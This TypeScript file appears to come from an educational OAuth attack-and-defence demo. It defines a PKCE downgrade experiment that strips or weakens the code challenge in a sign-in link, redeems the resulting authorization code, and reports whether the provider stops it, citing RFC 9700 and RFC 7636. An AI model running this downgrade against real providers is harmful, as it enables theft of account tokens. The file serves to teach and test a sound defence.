import { OAuthError } from "../oauth/oauth-error.ts";
import { generateCodeVerifier } from "../oauth/pkce.ts";
import type { Attack, Experiment, Stage } from "./experiment.ts";
import { openSignInPage, sendSignInForm } from "./sign-in-page.ts";
import { redeemStolenCode, redemptionStep } from "./stolen-code.ts";
import { beginSignIn } from "./victim.ts";

export const pkceDowngrade: Experiment = {
  id: "pkce-downgrade",
  title: "The puzzle is taken out of the request",
  story:
    "Somebody changes the address that leads you to the provider: the challenge is gone, or it is the verifier itself (plain). The code that comes back would be bound to nothing secret, and anybody who finds it could redeem it.",
  attack: [
    "Has you follow a sign-in link of the same app, without a challenge.",
    "Has you follow another one, whose challenge is the verifier itself.",
    "Reads the code that comes back, and redeems it.",
  ],
  defence:
    "The provider refuses requests without a challenge and with the method plain, before anybody signs in.",
  defender: "provider",
  reference: "RFC 9700 §2.1.1 and §4.8.2, RFC 7636 §7.2",
  undefended: {
    words: "The provider accepts requests without a challenge, and plain ones.",
    scenarios: ["pkce-optional", "plain-challenges-accepted"],
  },
  own: {
    kind: "command-line",
    sends: [
      "an authorization request as Pixy makes it",
      "the same without a challenge",
      "the same with a challenge that is the verifier itself (plain)",
    ],
  },
  run,
};

/** Two ways to weaken a request; a verifier is there where the link has it in it. */
const weakenings = [
  { name: "no challenge", verifier: undefined },
  { name: "a plain challenge", verifier: generateCodeVerifier },
] as const;

async function* run(stage: Stage): Attack {
  const { fetch, clientId, redirectUri } = stage;
  const { url, context } = await beginSignIn(stage);
  const good = await openSignInPage(url, fetch);
  if (good.at === "refused") {
    throw new OAuthError("authorization_failed", "the provider shows no page to sign in");
  }
  yield {
    from: "tab",
    to: "provider",
    title: "A good request leads to the sign-in page",
    sentence:
      "With its S256 challenge the request is accepted. What follows differs in nothing else.",
  };
  const opened: string[] = [];
  let code = "";
  for (const { name, verifier: make } of weakenings) {
    const verifier = make?.();
    const link = weakened(url, verifier);
    const arrival = await openSignInPage(link, fetch);
    if (arrival.at === "refused") {
      code = arrival.code;
      yield {
        from: "you",
        to: "provider",
        title: `A link with ${name}`,
        sentence: "You follow the changed link, and the provider refuses it before you sign in.",
        refusal: { by: "provider", code },
      };
      continue;
    }
    yield {
      from: "you",
      to: "provider",
      title: `A link with ${name}`,
      sentence: "You follow the changed link, and the provider asks you to sign in as always.",
    };
    const { searchParams } = await sendSignInForm(link, stage.fillInSignIn(), stage);
    const answer = await redeemStolenCode(
      { code: searchParams.get("code") ?? "", clientId, redirectUri },
      context.metadata,
      { fetch, ...(verifier !== undefined && { verifier }) },
    );
    if (answer.isGranted) opened.push(name);
    else code = answer.refusal;
    yield redemptionStep(answer, {
      granted: "The code was bound to nothing secret: the attacker gets your tokens for it.",
      refused: "The provider gives nothing for it after all.",
    });
  }
  return opened.length > 0
    ? {
        outcome: "not-stopped",
        sentence: `The attacker holds tokens of your account, by a request with ${opened.join(" and by one with ")}.`,
      }
    : {
        outcome: "stopped",
        by: "provider",
        code,
        sentence: "Neither changed request led anywhere, while the good one was accepted.",
      };
}

function weakened(url: URL, verifier: string | undefined): URL {
  const link = new URL(url);
  const { searchParams } = link;
  searchParams.delete("code_challenge");
  searchParams.delete("code_challenge_method");
  if (verifier !== undefined) {
    searchParams.set("code_challenge", verifier);
    searchParams.set("code_challenge_method", "plain");
  }
  return link;
}
